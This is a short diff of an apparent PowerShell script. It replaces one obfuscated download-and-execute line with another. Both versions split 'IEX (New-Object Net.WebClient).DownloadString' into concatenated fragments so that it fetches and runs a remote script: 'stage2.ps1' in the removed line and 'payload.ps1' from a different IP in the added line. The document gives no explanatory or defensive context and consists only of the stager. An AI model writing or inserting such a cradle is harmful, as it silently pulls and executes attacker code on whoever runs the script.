@@ -1,3 +1,3 @@
-iex ('# provision 2749 v3'+'
-IEX (New-Object Net.We'+'bClient).Do'+'w'+'nloadString(''http://198.51.100.9/s'+'tage2.ps1'')
+iex ('# run 5245 v3
+IEX (New-Objec'+'t Net.WebClient).Downl'+'oadString(''http://203'+'.0.11'+'3.200/payload.ps1'')
 ')
